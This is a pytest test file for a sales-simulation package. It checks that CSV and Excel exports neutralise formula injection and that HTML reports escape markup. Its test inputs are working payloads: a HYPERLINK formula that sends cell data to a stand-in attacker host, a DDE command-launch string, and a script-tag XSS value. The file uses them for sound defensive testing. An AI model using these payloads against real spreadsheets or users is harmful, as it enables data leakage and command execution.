"""Formula-safe exports: text a spreadsheet would run as a formula is neutralised in every CSV and
XLSX file the package writes, while numbers stay numbers."""

from __future__ import annotations

import csv
import io
import math
import re
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

import salessim
from salessim.cli import main
from salessim.views import exports as se

PACKAGE = Path(salessim.__file__).parent
# what OWASP / ASVS list as formula triggers, plus the full-width forms
ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "\uff1d1+1"]
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")


@pytest.mark.parametrize("text", ATTACKS)
def test_dangerous_text_gets_a_leading_quote_and_nothing_else_changes(text):
    out = se.neutralise(text)
    assert out == "'" + text
    assert se.restore(out) == text


@pytest.mark.parametrize("value", ["rep01", "", "A", "revenue (USD)", "1.5", "'quoted", -5, -2.5, 0, True, None,
                                   math.nan, pd.Timestamp("2027-01-31")])
def test_safe_values_and_all_non_text_pass_through(value):
    out = se.neutralise(value)
    assert out is value or (isinstance(value, float) and math.isnan(out))


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "product": ATTACKS[:4],                                        # pandas 3: str dtype
        "rep": pd.Series(["-rep01", "rep02", "@rep03", "rep04"], dtype=object),
        "profit": [-1234.5, 2500.0, -0.25, 0.0],                       # negative numbers stay numbers
        "deals": np.array([-3, 4, 5, 6], dtype=np.int64),
        "mixed": pd.Series([-7, "=1+1", 2.5, None], dtype=object),     # numbers and text in one column
        "group": pd.Categorical(["+x", "y", "+x", "y"]),
        "=SUM(A1:A9)": ["a", "b", "c", "d"],                           # a dangerous header
    })


def _dangerous_cell(v) -> bool:
    return isinstance(v, str) and bool(v) and v[0] in se.TRIGGERS


def test_csv_neutralises_text_cells_and_headers_and_keeps_numbers(tmp_path):
    df = _frame()
    f = tmp_path / "t.csv"
    se.to_csv(df, f)
    with open(f, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert header[-1] == "'=SUM(A1:A9)"
    for row in body:
        for cell in row:
            # a cell may start with '-' only if it is a plain number a spreadsheet reads as a number
            assert not _dangerous_cell(cell) or NUMBER.match(cell), cell
    cols = dict(zip(header, zip(*body)))
    assert list(cols["product"]) == ["'" + a for a in ATTACKS[:4]]
    assert cols["rep"][0] == "'-rep01" and cols["rep"][2] == "'@rep03"
    assert [float(x) for x in cols["profit"]] == [-1234.5, 2500.0, -0.25, 0.0]
    assert [int(x) for x in cols["deals"]] == [-3, 4, 5, 6]
    assert cols["mixed"][:3] == ("-7", "'=1+1", "2.5")
    assert cols["group"][0] == "'+x"
    # the input frame is untouched
    assert df["product"].iloc[0] == ATTACKS[0]


def test_csv_text_round_trips_through_a_quoting_csv_reader():
    df = pd.DataFrame({"name": ['=HYPERLINK("a,b")', 'x"y', "line\nbreak"], "v": [-1.0, 2.0, 3.0]})
    text = se.csv_text(df)
    back = pd.read_csv(io.StringIO(text))
    assert list(back["name"]) == ["'" + df["name"][0], 'x"y', "line\nbreak"]
    assert list(back["v"]) == [-1.0, 2.0, 3.0]


def test_xlsx_cells_are_strings_not_formulas_and_numbers_stay_numeric(tmp_path):
    f = tmp_path / "t.xlsx"
    se.to_excel({"tables": _frame(), "=evil sheet/name?": _frame()}, f, notes={"tables": "=note starting with ="})
    wb = openpyxl.load_workbook(f)  # formulas would load as data_type "f"
    assert wb.sheetnames == ["tables", "=evil sheet_name_"]
    for ws in wb.worksheets:
        negatives = 0
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _dangerous_cell(cell.value), (ws.title, cell.coordinate, cell.value)
                    assert not NUMBER.match(cell.value), f"a number written as text: {cell.value!r}"
                elif isinstance(cell.value, (int, float)) and cell.value < 0:
                    assert cell.data_type == "n"
                    negatives += 1
        assert negatives == 4  # profit -1234.5 and -0.25, deals -3, mixed -7
    ws = wb["tables"]
    assert ws["A1"].value == "'=note starting with ="
    header = [c.value for c in ws[3]]
    assert header[0] == "product" and header[-1] == "'=SUM(A1:A9)"
    assert ws["A4"].value == "'" + ATTACKS[0]
    assert ws["C4"].value == -1234.5


def test_sheet_names_are_valid_and_unique():
    taken: list[str] = []
    for name in ["a" * 40, "a" * 40, "x[1]:y*?", "Sheet"]:
        taken.append(se.sheet_name(name, taken))
    assert all(len(n) <= 31 for n in taken) and len({n.lower() for n in taken}) == 4
    assert not any(set(n) & set("[]:*?/\\") for n in taken)


def test_unwritable_targets_are_user_errors(tmp_path):
    blocker = tmp_path / "file.txt"
    blocker.write_text("x")
    with pytest.raises(salessim.UserError, match="cannot write the CSV file"):
        se.to_csv(_frame(), blocker / "t.csv")
    with pytest.raises(salessim.UserError, match="cannot write the Excel file"):
        se.to_excel(_frame(), blocker / "t.xlsx")


def test_no_module_writes_csv_or_excel_around_safe_export():
    """Every CSV/XLSX writer in the package goes through salessim.views.exports."""
    offenders = []
    pattern = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(|DictWriter\(")
    for f in PACKAGE.rglob("*.py"):
        if f.relative_to(PACKAGE).as_posix() == "views/exports.py":
            continue
        for i, line in enumerate(f.read_text(encoding="utf-8").splitlines(), start=1):
            if pattern.search(line):
                offenders.append(f"{f.relative_to(PACKAGE)}:{i}: {line.strip()}")
    assert offenders == []


# --------------------------------------------------------------------------- end to end
def hostile_scenario(tmp_path: Path) -> Path:
    """Baseline with a product named like a formula, reps named '-rep..', a scenario name starting with '-'."""
    from salessim.scenarios.files import scenario_data, to_toml, validate

    data = scenario_data(salessim.load_scenario("baseline"))
    product = '=HYPERLINK("http://evil.example","x")'
    data["name"] = "-evil"
    data["description"] = "<script>alert('x')</script> & co"
    data["products"] = {product: data["products"]["A"]}
    for src in data["lead_sources"]:
        src["product"] = product
    for comp in data["pay"]["components"]:
        if "rates" in comp:
            comp["rates"] = {product: v for v in comp["rates"].values()}
    data["team"]["reps"][0]["id"] = "-rep"
    data["team"]["reps"][0]["count"] = 3
    f = tmp_path / "evil.toml"
    f.write_text(to_toml(validate(data)), encoding="utf-8")
    return f


def test_comp_and_report_exports_neutralise_user_names(tmp_path, capsys):
    sc = hostile_scenario(tmp_path)
    assert main(["comp", str(sc), "-n", "2", "--months", "1", "--workers", "1", "--out", str(tmp_path / "comp")]) == 0
    products = (tmp_path / "comp" / "products.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in products and "\n=" not in products and ",=" not in products
    payroll = pd.read_csv(tmp_path / "comp" / "payroll.csv")
    assert set(payroll.loc[payroll["role"] == "rep", "person"]) == {"'-rep01", "'-rep02", "'-rep03"}
    assert payroll["amount"].dtype.kind == "f"

    out = tmp_path / "r"
    assert main(["report", str(sc), "-n", "2", "--months", "1", "--workers", "1", "--out", str(out / "r.html"),
                 "--csv", str(out / "csv"), "--xlsx", str(out / "r.xlsx")]) == 0
    capsys.readouterr()
    for f in (out / "csv").glob("*.csv"):
        with open(f, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not _dangerous_cell(cell) or NUMBER.match(cell), (f.name, cell)
    wb = openpyxl.load_workbook(out / "r.xlsx")
    seen_names = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not _dangerous_cell(cell.value), (ws.title, cell.value)
                    seen_names.add(cell.value)
    assert "'-evil" in seen_names and "'-rep01" in seen_names and any(v.startswith("'=HYPERLINK") for v in seen_names)
    # the HTML shows the names as text: escaped, never markup
    html = (out / "r.html").read_text(encoding="utf-8")
    assert "<script" not in html and "&lt;script&gt;alert(" in html
